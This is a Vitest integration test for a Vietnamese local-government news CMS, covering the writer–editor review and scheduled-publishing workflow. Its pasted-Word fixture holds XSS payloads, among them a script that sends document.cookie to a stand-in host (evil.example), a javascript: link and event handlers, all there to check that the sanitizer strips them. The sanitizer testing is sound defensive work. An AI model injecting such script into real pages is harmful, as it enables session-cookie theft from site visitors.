import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createTestApp, type TestApp } from "../../../test/support/app.js";
import { ENGINES } from "../../../test/support/databases.js";
import { createUnit, createUser } from "../../../test/support/fixtures.js";
import { TestClient } from "../../../test/support/http.js";
import { createApiToken } from "../../accounts/auth.service.js";
import { publishDueArticles } from "../articles/article-workflow.service.js";

// 02/01/2020 22:00 in Hà Nội.
const NOW = new Date("2020-01-02T15:00:00Z");

type Fields = Record<string, string | string[]>;

/** A pasted Word document: styles, conditional comments, Office tags, a script, handlers, a javascript: link. */
const WORD_PASTE = `<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style>p.MsoNormal{margin:0cm;font-family:"Times New Roman"}</style><!--[if gte mso 9]><xml><w:WordDocument><w:View>Normal</w:View></w:WordDocument></xml><![endif]--></head>
<body lang="VI" style="tab-interval:36.0pt">
<p class="MsoNormal" style="text-align:justify;text-indent:1.0cm"><b><span style="font-size:14.0pt;mso-bidi-font-family:Arial">Thu ngân sách</span></b><span style="font-size:14.0pt"> đạt 111% dự toán<o:p></o:p></span></p>
<p class="MsoListParagraphCxSpFirst" style="mso-list:l0 level1 lfo1"><![if !supportLists]><span>-<span style="font:7.0pt">&nbsp;&nbsp; </span></span><![endif]>Xếp thứ 1/14 phường</p>
<p class="MsoNormal" onclick="alert(1)" onmouseover="steal()"><font face="Arial" color="red">Chi tiết</font> <a href="javascript:alert(document.cookie)">tại đây</a> <a href="https://longbien.hanoi.gov.vn" target="_blank">cổng quận</a></p>
<script>fetch('https://evil.example/?c='+document.cookie)</script>
<p class="MsoNormal"><o:p>&nbsp;</o:p></p>
<img src="x" onerror="alert(1)"><iframe src="https://evil.example"></iframe>
</body></html>`;

describe.each(ENGINES)("editorial journey over HTTP on %s", (engine) => {
  let t: TestApp;
  let wardA: number;
  let sessionId: number;
  let writerToken: string;
  let editorToken: string;

  const db = () => t.database.db;

  async function signedIn(username: string): Promise<TestClient> {
    const client = new TestClient(t);
    expect((await client.logIn(username)).status).toBe(303);
    return client;
  }

  function fields(overrides: Fields = {}): Fields {
    return {
      title: "Phường Thượng Thanh tổng kết năm 2019",
      slug: "",
      lead: "",
      bodyHtml: "<p>Đoạn một.</p>",
      categoryId: "",
      unitId: String(wardA),
      tags: "",
      publishedDate: "",
      publishedTime: "",
      intent: "save",
      ...overrides,
    };
  }

  async function submit(client: TestClient, address: string, values: Fields) {
    const form = new FormData();
    form.set("_csrf", client.csrfToken);
    for (const [key, value] of Object.entries(values)) {
      for (const one of Array.isArray(value) ? value : [value]) form.append(key, one);
    }
    form.set("photo", new File([], ""));
    return client.request(address, { method: "POST", body: form });
  }

  const status = async (id: number) =>
    (await db().selectFrom("articles").select("status").where("id", "=", id).executeTakeFirstOrThrow())
      .status;

  function api(token: string) {
    return (method: string, address: string, body?: unknown) =>
      new TestClient(t).request(address, {
        method,
        body: body === undefined ? undefined : JSON.stringify(body),
        headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
      });
  }

  beforeAll(async () => {
    t = await createTestApp(engine, {
      now: NOW,
      config: { dataDir: mkdtempSync(path.join(tmpdir(), "giaoban-editorial-")) },
    });
    const district = await createUnit(db(), { name: "Long Biên", level: "district" });
    wardA = await createUnit(db(), { name: "Thượng Thanh", parentId: district });
    await createUser(db(), {
      username: "bientap",
      displayName: "Biên tập",
      grants: [{ role: "editor", unitId: district }],
    });
    await createUser(db(), {
      username: "phuonga",
      displayName: "Cán bộ A",
      grants: [{ role: "writer", unitId: wardA }],
    });
    writerToken = (await createApiToken(db(), { username: "phuonga", name: "api", actor: null, now: NOW }))
      .token;
    editorToken = (await createApiToken(db(), { username: "bientap", name: "api", actor: null, now: NOW }))
      .token;
    sessionId = (
      await db()
        .insertInto("working_sessions")
        .values({
          kind: "working_visit",
          title: "Ban Thường vụ Quận ủy làm việc với phường Thượng Thanh",
          owner_unit_id: district,
          host_unit_id: wardA,
          starts_at: "2020-01-02T07:00:00.000Z",
          place: "Phòng họp 1 UBND phường",
          chair_name: "Đỗ Mạnh Hải",
          created_at: NOW.toISOString(),
          updated_at: NOW.toISOString(),
        })
        .returning("id")
        .executeTakeFirstOrThrow()
    ).id;
  });
  afterAll(async () => {
    await t.close();
  });

  it("writer drafts and submits; editor returns with a comment; writer fixes and resubmits; editor schedules; it appears at 08:00", async () => {
    const writer = await signedIn("phuonga");
    const form = await writer.page("/quan-tri/bai-viet/moi");
    expect(form.html).toContain(
      '<button type="submit" name="intent" value="submit" class="button secondary">Gửi duyệt</button>',
    );
    expect(form.html).not.toContain('value="publish"');
    expect(form.html).toContain(
      `<label for="f-sessionIds-${sessionId}">Ban Thường vụ Quận ủy làm việc với phường Thượng Thanh (02/01/2020)</label>`,
    );

    const created = await submit(
      writer,
      "/quan-tri/bai-viet/moi",
      fields({ bodyHtml: WORD_PASTE, tags: "tổng kết, Thượng Thanh", sessionIds: [String(sessionId)] }),
    );
    expect(created.status).toBe(303);
    const id = Number(created.headers.get("location")?.match(/bai-viet\/(\d+)/)?.[1]);
    const address = `/quan-tri/bai-viet/${id}`;
    const stored = await db()
      .selectFrom("articles")
      .select("body_html")
      .where("id", "=", id)
      .executeTakeFirstOrThrow();
    expect(stored.body_html).toBe(
      '<p><b>Thu ngân sách</b> đạt 111% dự toán</p>\n<p>Xếp thứ 1/14 phường</p>\n<p>Chi tiết <a>tại đây</a> <a href="https://longbien.hanoi.gov.vn" rel="noopener noreferrer">cổng quận</a></p>',
    );
    expect(
      await db().selectFrom("article_sessions").select("session_id").where("article_id", "=", id).execute(),
    ).toEqual([{ session_id: sessionId }]);

    const submitted = await submit(
      writer,
      address,
      fields({ slug: "phuong-thuong-thanh-tong-ket-nam-2019", bodyHtml: stored.body_html, intent: "submit" }),
    );
    // The writer can no longer edit it: back to the list, which says so.
    expect(submitted.headers.get("location")).toBe("/quan-tri/bai-viet?ok=submitted");
    expect((await writer.page("/quan-tri/bai-viet?ok=submitted")).html).toContain(
      "Đã gửi bài cho biên tập viên duyệt.",
    );
    expect(await status(id)).toBe("submitted");
    expect((await writer.request(address)).status).toBe(403);

    const editor = await signedIn("bientap");
    const queue = await editor.page("/quan-tri/bai-viet?trang-thai=cho-duyet");
    expect(queue.html).toContain('aria-current="page">Chờ duyệt (1)</a>');
    expect(queue.html).toContain(`<a href="${address}">Phường Thượng Thanh tổng kết năm 2019</a>`);
    const review = await editor.page(address);
    expect(review.html).toContain('<h2 id="duyet-bai">Duyệt bài</h2>');

    const noComment = await editor.postForm(`${address}/tra-lai`, { comment: "  " });
    expect(noComment.status).toBe(422);
    expect(await noComment.text()).toContain(
      '<p class="field-error" id="f-comment-error">Vui lòng ghi rõ nội dung cần sửa để người viết biết.</p>',
    );
    const returned = await editor.postForm(`${address}/tra-lai`, {
      comment: "Bổ sung số liệu thu ngân sách năm 2019.",
    });
    expect(returned.headers.get("location")).toBe(`${address}?ok=returned`);
    expect(await status(id)).toBe("draft");
    // A second return of what is no longer submitted is refused with the reason.
    const again = await editor.postForm(`${address}/tra-lai`, { comment: "Lần nữa" });
    expect(again.status).toBe(409);
    expect(await again.text()).toContain("Chỉ trả lại được bài đang chờ duyệt.");

    const list = await writer.page("/quan-tri/bai-viet");
    expect(list.html).toContain('<span class="status status-draft">Bị trả lại</span>');
    const page = await writer.page(address);
    expect(page.html).toContain('<p class="review-comment">Bổ sung số liệu thu ngân sách năm 2019.</p>');
    expect((await writer.postForm(`${address}/tra-lai`, { comment: "tự trả" })).status).toBe(403);

    const resubmitted = await submit(
      writer,
      address,
      fields({
        slug: "phuong-thuong-thanh-tong-ket-nam-2019",
        bodyHtml: `${stored.body_html}<p>Thu ngân sách năm 2019 đạt 37,6 tỷ đồng.</p>`,
        tags: "tổng kết, Thượng Thanh",
        sessionIds: [String(sessionId)],
        intent: "submit",
      }),
    );
    expect(resubmitted.status).toBe(303);
    expect(await status(id)).toBe("submitted");

    await editor.page(address);
    const scheduled = await submit(
      editor,
      address,
      fields({
        slug: "phuong-thuong-thanh-tong-ket-nam-2019",
        bodyHtml: `${stored.body_html}<p>Thu ngân sách năm 2019 đạt 37,6 tỷ đồng.</p>`,
        tags: "tổng kết, Thượng Thanh",
        sessionIds: [String(sessionId)],
        publishedDate: "2020-01-03",
        publishedTime: "08:00",
        intent: "publish",
      }),
    );
    expect(scheduled.headers.get("location")).toBe(`${address}?ok=scheduled`);
    expect(await status(id)).toBe("scheduled");
    expect((await editor.page(address)).html).toContain(
      "Bài sẽ tự động đăng lúc 03/01/2020 08:00 (giờ Việt Nam).",
    );

    const reader = new TestClient(t, "198.51.100.20");
    expect((await reader.page("/")).html).not.toContain("Phường Thượng Thanh tổng kết năm 2019");
    expect((await reader.request("/tin-tuc/phuong-thuong-thanh-tong-ket-nam-2019")).status).toBe(404);
    t.setNow(new Date("2020-01-03T01:00:00Z"));
    try {
      expect((await reader.page("/")).html).toContain("Phường Thượng Thanh tổng kết năm 2019");
      expect((await reader.request("/tin-tuc/phuong-thuong-thanh-tong-ket-nam-2019")).status).toBe(200);
      expect(await publishDueArticles(db(), new Date("2020-01-03T01:00:00Z"))).toEqual([id]);
      expect(await status(id)).toBe("published");
    } finally {
      t.setNow(NOW);
    }

    const audit = await db()
      .selectFrom("audit_events")
      .select(["action", "actor_name"])
      .where("entity_type", "=", "article")
      .where("entity_id", "=", String(id))
      .orderBy("id")
      .execute();
    expect(audit.map((a) => a.action)).toEqual([
      "create",
      "submit",
      "return",
      "submit",
      "schedule",
      "publish",
    ]);
    expect(audit.at(-1)?.actor_name).toBe("hệ thống");
    const trail = await db()
      .selectFrom("article_reviews")
      .select("action")
      .where("article_id", "=", id)
      .orderBy("id")
      .execute();
    expect(trail.map((r) => r.action)).toEqual(["submit", "return", "submit", "schedule", "auto_publish"]);
  });

  it("refuses an unknown working session with a message next to the field", async () => {
    const writer = await signedIn("phuonga");
    await writer.page("/quan-tri/bai-viet/moi");
    const res = await submit(
      writer,
      "/quan-tri/bai-viet/moi",
      fields({ title: "Bài lạ", sessionIds: ["999999"] }),
    );
    expect(res.status).toBe(422);
    expect(await res.text()).toContain(
      '<a href="#f-sessionIds">Buổi làm việc liên quan: Buổi làm việc không tồn tại.</a>',
    );
  });

  it("takes the same steps through POST /api/v1/articles/{id}/review with paths and reasons", async () => {
    const asWriter = api(writerToken);
    const asEditor = api(editorToken);
    const created = (await (
      await asWriter("POST", "/api/v1/articles", {
        title: "Qua API",
        bodyHtml: "<p>x</p>",
        unitId: wardA,
        status: "submitted",
      })
    ).json()) as { data: { id: number; status: string } };
    expect(created.data.status).toBe("submitted");
    const id = created.data.id;
    const review = (who: typeof asWriter, body: unknown) =>
      who("POST", `/api/v1/articles/${id}/review`, body);

    expect((await review(asWriter, { action: "publish" })).status).toBe(403);
    const noComment = await review(asEditor, { action: "return" });
    expect(noComment.status).toBe(422);
    expect(((await noComment.json()) as { error: { fields: Record<string, string> } }).error.fields).toEqual({
      "body.comment": "Vui lòng ghi rõ nội dung cần sửa để người viết biết.",
    });
    expect((await review(asEditor, { action: "return", comment: "Thêm ảnh" })).status).toBe(200);
    const twice = await review(asEditor, { action: "return", comment: "Thêm ảnh" });
    expect(twice.status).toBe(409);
    expect(((await twice.json()) as { error: { message: string } }).error.message).toBe(
      "Chỉ trả lại được bài đang chờ duyệt.",
    );
    expect((await review(asWriter, { action: "submit" })).status).toBe(200);
    const published = await review(asEditor, { action: "publish", publishedAt: "2020-01-05T08:00:00+07:00" });
    expect(
      ((await published.json()) as { data: { status: string; publishedAt: string } }).data,
    ).toMatchObject({
      status: "scheduled",
      publishedAt: "2020-01-05T01:00:00.000Z",
    });
    const unpublished = await asEditor("PATCH", `/api/v1/articles/${id}`, { status: "unpublished" });
    expect(((await unpublished.json()) as { data: { status: string } }).data.status).toBe("unpublished");
    const draftAgain = await asEditor("PATCH", `/api/v1/articles/${id}`, { status: "draft" });
    expect(draftAgain.status).toBe(409);
  });
});
